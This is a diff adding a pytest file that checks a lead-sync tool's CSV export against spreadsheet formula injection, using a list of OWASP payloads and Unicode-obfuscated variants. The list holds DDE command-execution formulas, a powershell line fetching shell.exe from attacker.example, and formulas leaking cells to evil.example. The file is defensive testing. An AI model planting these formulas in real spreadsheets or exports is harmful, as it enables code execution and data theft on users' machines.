@@ -1,0 +1,92 @@
+"""Red team, privacy side (issue 14 items 4-6): spreadsheet formulas in the CSV export, a flood of spam posts
+against the database's size, and `forget` while HubSpot is down, each against real parts (the CLI, PostgreSQL
+or SQLite, the HubSpot emulator, the ASGI app)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from click.testing import CliRunner
+
+from leadsync.cli import main
+from leadsync.config import Settings
+from leadsync.contacts import safe_cell
+from leadsync.storage.db import session_scope
+from leadsync.storage.models import Contact
+
+# The OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), their usual
+# variants, and the same behind the whitespace and invisible characters spreadsheets skip.
+OWASP_PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+1",
+    "-1-1",
+    "@SUM(1,1)",
+    "=1+1",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
+    '=WEBSERVICE("http://evil.example/?"&A1)',
+    "\t=1+1",
+    "\r=1+1",
+    "\tcalc",
+    "\rcalc",
+    " =1+1",
+    "   @SUM(1,1)",
+    "\n=1+1",
+    "\u200b=1+1",  # zero-width space
+    "\u200c+1",  # zero-width non-joiner
+    "\u200d-1",  # zero-width joiner
+    "\ufeff@SUM(1,1)",  # byte order mark
+    "\u2060=1+1",  # word joiner
+    "\u00ad=1+1",  # soft hyphen (category Cf)
+    "\u200e\u200f=1+1",  # direction marks (Cf)
+    " \u200b \ufeff=cmd|' /C calc'!A0",
+]
+HARMLESS = ["Ann", "Jean-Luc", "O'Brien", "a=b", "x@y", "1+1", "Ann \u200b", ""]
+
+
+def test_every_owasp_payload_is_neutralized_and_harmless_text_is_not() -> None:
+    for payload in OWASP_PAYLOADS:
+        assert safe_cell(payload) == "'" + payload, repr(payload)
+    for text in HARMLESS:
+        assert safe_cell(text) == text, repr(text)
+
+
+@pytest.mark.parametrize("backend", ["embedded"])  # the export reads with plain queries: one backend is enough
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(settings: Settings) -> None:
+    """Contacts whose every text column holds a payload, exported by the real command and read back."""
+    with session_scope() as session:
+        for number, payload in enumerate(OWASP_PAYLOADS):
+            session.add(
+                Contact(
+                    email=f"p{number}@example.org",
+                    first_name=payload,
+                    last_name=None,
+                    phone=payload,
+                    interest=payload,
+                    field_times={},
+                    lifecycle_stage="lead",
+                    crm_status="rejected",
+                    crm_error=payload,
+                    hubspot_id=payload[:64],
+                )
+            )
+    result = CliRunner().invoke(main, ["contacts", "export", "--csv"], catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.output, newline="")))
+    assert len(rows) == len(OWASP_PAYLOADS)
+    by_email = {row["email"]: row for row in rows}
+    for number, payload in enumerate(OWASP_PAYLOADS):
+        row = by_email[f"p{number}@example.org"]
+        for column in ("name", "phone", "sync_error", "hubspot_id"):
+            stored = payload[:64] if column == "hubspot_id" else payload
+            assert row[column] == "'" + stored, (column, payload, row[column])  # shown as text, never run
+        assert row["requested"].startswith("packet: ") or row["requested"] == "newsletter"
